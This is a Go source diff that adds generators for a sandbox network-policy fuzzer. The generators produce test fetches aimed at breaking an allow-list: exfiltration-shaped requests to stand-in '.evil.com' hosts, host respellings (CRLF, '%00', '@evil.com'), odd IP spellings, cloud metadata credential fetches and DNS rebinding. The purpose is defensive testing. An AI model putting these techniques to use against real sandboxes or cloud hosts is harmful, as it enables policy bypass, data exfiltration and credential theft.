@@ -1,0 +1,249 @@
+package generators
+
+import (
+	"slices"
+	"strings"
+
+	"github.com/sbxfuzz/sbxfuzz/core"
+)
+
+// safeHost is a granted host that resolves to a public address and has no
+// DNS line (so it cannot rebind), starting from a random one.
+func safeHost(src Source, sc *Scenario) (string, bool) {
+	hosts := sc.Grant.NetHosts
+	if len(hosts) == 0 {
+		return "", false
+	}
+	j := src.Intn(len(hosts))
+	for i := range hosts {
+		h := hosts[(i+j)%len(hosts)]
+		if !core.IsInternal(core.StaticResolve(h)) && !hasDNS(sc, h) {
+			return h, true
+		}
+	}
+	return "", false
+}
+
+func hasDNS(sc *Scenario, h string) bool {
+	for _, d := range sc.World.DNS {
+		if sameName(d.Host, h) {
+			return true
+		}
+	}
+	return false
+}
+
+// sameName reports whether core.NormalizeHost(a) == core.NormalizeHost(b)
+// — one trailing dot dropped, ASCII case folded — without allocating.
+func sameName(a, b string) bool {
+	a, b = strings.TrimSuffix(a, "."), strings.TrimSuffix(b, ".")
+	if len(a) != len(b) {
+		return false
+	}
+	for i := 0; i < len(a); i++ {
+		if x, y := a[i], b[i]; x != y && (x|0x20 != y|0x20 || x|0x20 < 'a' || x|0x20 > 'z') {
+			return false
+		}
+	}
+	return true
+}
+
+// routePath is a path the world routes for exactly h, or one of fetchPaths.
+func routePath(src Source, sc *Scenario, h string) string {
+	routes := sc.World.Routes
+	n := 0
+	for _, r := range routes {
+		if r.Host == h {
+			n++
+		}
+	}
+	if n == 0 {
+		return pick(src, fetchPaths)
+	}
+	k := src.Intn(n)
+	for _, r := range routes {
+		if r.Host == h {
+			if k == 0 {
+				return r.Path
+			}
+			k--
+		}
+	}
+	return "/status"
+}
+
+// unknownHostOp fetches from a host outside the grant, often
+// exfiltration-shaped: a secret in the path or in a DNS label.
+func unknownHostOp(src Source, sc *Scenario) core.Op {
+	var h string
+	if oneIn(src, 3) {
+		h = relatedHost(src, anyHost(src, sc))
+	} else {
+		h = pick(src, attackerHosts)
+	}
+	if slices.Contains(sc.Grant.NetHosts, h) {
+		h += ".evil.com"
+	}
+	p := pick(src, exfilPaths)
+	if p == "/log?d=" {
+		p += pick(src, outsideFiles[:4]).data
+	}
+	return fetch(src, h, p)
+}
+
+// relatedHost is another name built from a granted one: a suffix, prefix,
+// subdomain or parent.
+func relatedHost(src Source, h string) string {
+	switch src.Intn(4) {
+	case 0:
+		return h + ".evil.com"
+	case 1:
+		return "evil" + h
+	case 2:
+		return "sub." + h
+	}
+	if i := strings.IndexByte(h, '.'); i >= 0 && strings.IndexByte(h[i+1:], '.') >= 0 {
+		return h[i+1:]
+	}
+	return "evil-" + h
+}
+
+// hostVariants respell a granted host. A respelling that changes nothing,
+// or is itself granted, is replaced by hostVariantOp.
+var hostVariants = []func(h string) string{
+	upperASCII,
+	titleASCII,
+	func(h string) string {
+		if strings.HasSuffix(h, ".") {
+			return h[:len(h)-1]
+		}
+		return h + "."
+	},
+	func(h string) string { return h + ":443" },
+	func(h string) string { return h + ":80" },
+	func(h string) string { return "user@" + h },
+	func(h string) string { return h + "@evil.com" },
+	func(h string) string { return " " + h },
+	func(h string) string { return h + " " },
+	func(h string) string { return h + "\t" },
+	func(h string) string { return h + "/" },
+	func(h string) string { return h + "#frag" },
+	func(h string) string { return h + "?x=1" },
+	func(h string) string { return "http://" + h },
+	func(h string) string { return h + ".." },
+	lowerASCII,
+	func(h string) string { return "*." + h },
+	func(h string) string { return h + "%00" },
+	func(h string) string { return "[" + h + "]" },
+	func(h string) string { return "https://" + h + "/" },
+	func(h string) string { return h + "\r\n" },
+}
+
+// hostVariantOp fetches a routed path from a respelling of a granted host:
+// the router and resolver fold case and a trailing dot, the grant must not.
+func hostVariantOp(src Source, sc *Scenario) core.Op {
+	h := anyHost(src, sc)
+	v := pick(src, hostVariants)(h)
+	if v == h || slices.Contains(sc.Grant.NetHosts, v) { // no grant may hold '@'
+		v = "user@" + h
+	}
+	return fetch(src, v, routePath(src, sc, h))
+}
+
+// ipOp fetches an address spelled as inet_aton or IPv6 allows: mostly a
+// granted spelling, otherwise one from the tables.
+func ipOp(src Source, sc *Scenario) core.Op {
+	var h string
+	switch r := src.Intn(10); {
+	case r < 6:
+		h = grantedWhere(src, sc, isIPSpelling)
+		if h == "" {
+			h = pick(src, ipHosts)
+		}
+	case r < 8:
+		h = pick(src, ipHosts)
+	case r < 9:
+		h = pick(src, ipOpOnly)
+	default:
+		h = pick(src, ipNearMisses)
+	}
+	return fetch(src, h, []string{"/", "/status", "/admin"}[src.Intn(3)])
+}
+
+// grantedWhere is a granted host for which ok holds, starting from a
+// random one, or "" when none does.
+func grantedWhere(src Source, sc *Scenario, ok func(*Scenario, string) bool) string {
+	hosts := sc.Grant.NetHosts
+	if len(hosts) == 0 {
+		return ""
+	}
+	j := src.Intn(len(hosts))
+	for i := range hosts {
+		if h := hosts[(i+j)%len(hosts)]; ok(sc, h) {
+			return h
+		}
+	}
+	return ""
+}
+
+// isIPSpelling reports whether h is an address literal to the resolver.
+func isIPSpelling(_ *Scenario, h string) bool {
+	if h == "" || !(isDigit(h[0]) || h[0] == '[' || strings.IndexByte(h, ':') >= 0) {
+		return false
+	}
+	n := core.NormalizeHost(h)
+	if _, ok := core.ParseInetAton(n); ok {
+		return true
+	}
+	_, ok := core.ParseIPv6Literal(n)
+	return ok
+}
+
+func isDigit(c byte) bool { return '0' <= c && c <= '9' }
+
+// isMetadataHost reports whether h is a metadata endpoint or a name whose
+// DNS line points inside.
+func isMetadataHost(sc *Scenario, h string) bool {
+	return slices.Contains(metadataHosts, h) || h == dnsMetadata
+}
+
+// metadataOp fetches credentials from a metadata endpoint: mostly a granted
+// one (a careless allow-list), otherwise one from the table.
+func metadataOp(src Source, sc *Scenario) core.Op {
+	h := ""
+	if src.Intn(2) == 0 {
+		h = grantedWhere(src, sc, isMetadataHost)
+	}
+	if h == "" {
+		h = pick(src, metadataHosts)
+	}
+	if src.Intn(3) == 0 {
+		return fetch(src, h, routePath(src, sc, h)) // where a leak would return credentials
+	}
+	return fetch(src, h, pick(src, metadataPaths))
+}
+
+// rebindOp fetches a granted name whose DNS answers alternate; now and then
+// a case variant or an ungranted DNS name, which must consume no answer.
+func rebindOp(src Source, sc *Scenario) core.Op {
+	h := grantedWhere(src, sc, hasDNS)
+	switch r := src.Intn(10); {
+	case h == "" || r == 9:
+		if dns := sc.World.DNS; len(dns) > 0 {
+			h = pick(src, dns).Host
+		} else {
+			h = pick(src, rebinders).host
+		}
+	case r == 8:
+		h = upperASCII(h)
+	}
+	return fetch(src, h, []string{"/data", "/status", "/missing"}[src.Intn(3)])
+}
+
+// grantedOr is a safe granted host when there is one, else any host.
+func grantedOr(src Source, sc *Scenario) string {
+	if h, ok := safeHost(src, sc); ok {
+		return h
+	}
+	return anyHost(src, sc)
+}
